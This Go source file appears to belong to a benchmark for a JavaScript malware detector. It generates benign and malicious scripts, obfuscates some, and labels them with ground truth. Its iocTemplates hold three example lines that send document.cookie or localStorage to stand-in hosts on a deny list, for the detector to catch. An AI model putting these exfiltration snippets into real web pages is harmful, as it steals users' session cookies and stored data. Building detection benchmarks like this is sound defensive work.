package main

import (
	"fmt"
	"math/rand"

	"jsrevealer/internal/corpus"
	"jsrevealer/internal/obfuscate"
)

// Mix of the generated script population. The corpus generator already
// applies its in-the-wild transforms (minification and light obfuscation);
// on top of that a share of scripts goes through one of the paper's four
// obfuscators and a small share carries a deny-listed IOC. The shares are
// laid out by position, not drawn at random, so every seed gets the same
// mix and only the content varies:
//   - every 5th script is malicious (20%);
//   - one script per group of 5 goes through an obfuscator, at a position
//     that rotates from group to group so both classes are hit (20%), the
//     obfuscator cycling through the paper's four;
//   - every 33rd script gets a deny-listed IOC (about 3%).
const (
	maliciousShare  = 0.20
	obfuscatedShare = 0.20
	iocShare        = 1.0 / iocEvery
	iocEvery        = 33
	// batchSize is the number of scripts in one of the traced run's
	// batches: ClassifyBatch, ScanSources, and in-process /scan and /jobs.
	batchSize = 16
	// maxScriptBytes skips the rare script that stacked obfuscation blows
	// up to hundreds of kilobytes (about 1 in 1000, up to 340 KB against a
	// 40 KB 99th percentile): a single one in a working set moved
	// serve-repeat's throughput by 20% and its server's memory peak 2×.
	maxScriptBytes = 64 << 10
)

// denyDomains are the indicators listed in rules/bench.json. IOC-bearing
// scripts reference one of them in plain text, so the deny list convicts
// them on the raw bytes.
var denyDomains = []string{"stats-collect.example", "pay-verify.example", "cdn-sync.example"}

var iocTemplates = []string{
	"\n;navigator.sendBeacon(\"https://%s/b\", document.cookie);\n",
	"\n;(new Image()).src = \"https://%s/p.gif?c=\" + encodeURIComponent(document.cookie);\n",
	"\n;fetch(\"https://%s/collect\", {method: \"POST\", body: JSON.stringify(localStorage)});\n",
}

// script is one generated input with its ground truth.
type script struct {
	Name   string
	Source string
	// Malicious is the ground-truth label: the generator's label, or true
	// when a deny-listed IOC was injected.
	Malicious bool
	// Obfuscator names the paper obfuscator applied ("" for none).
	Obfuscator string
	IOC        bool
}

// genScripts returns n scripts of the bulk mix, all with distinct content,
// determined by seed alone.
func genScripts(seed int64, n int) []script {
	rng := rand.New(rand.NewSource(seed))
	var benign, malicious []corpus.Sample
	round := int64(0)
	// take pops the next generated sample of a class, generating more when
	// the class runs dry (duplicates are skipped below).
	take := func(mal bool) corpus.Sample {
		for (mal && len(malicious) == 0) || (!mal && len(benign) == 0) {
			m := n/5 + 8
			for _, s := range corpus.Generate(corpus.Config{Benign: 4 * m, Malicious: m, Seed: seed*1000003 + round}) {
				if s.Malicious {
					malicious = append(malicious, s)
				} else {
					benign = append(benign, s)
				}
			}
			round++
		}
		pool := &benign
		if mal {
			pool = &malicious
		}
		s := (*pool)[0]
		*pool = (*pool)[1:]
		return s
	}
	seen := make(map[string]bool, n)
	out := make([]script, 0, n)
	for len(out) < n {
		i := len(out)
		group := i / 5
		s := take(i%5 == 4)
		sc := script{Source: s.Source, Malicious: s.Malicious}
		if i%5 == group%5 {
			name := obfuscate.PaperOrder()[group%len(obfuscate.PaperOrder())]
			if src, err := obfuscate.Registry(rng.Int63())[name].Obfuscate(sc.Source); err == nil {
				sc.Source, sc.Obfuscator = src, name
			}
		}
		if i%iocEvery == iocEvery/2 {
			tpl := iocTemplates[rng.Intn(len(iocTemplates))]
			sc.Source += fmt.Sprintf(tpl, denyDomains[rng.Intn(len(denyDomains))])
			sc.IOC, sc.Malicious = true, true
		}
		if seen[sc.Source] || len(sc.Source) > maxScriptBytes {
			continue
		}
		seen[sc.Source] = true
		sc.Name = fmt.Sprintf("s%05d.js", i)
		out = append(out, sc)
	}
	return out
}
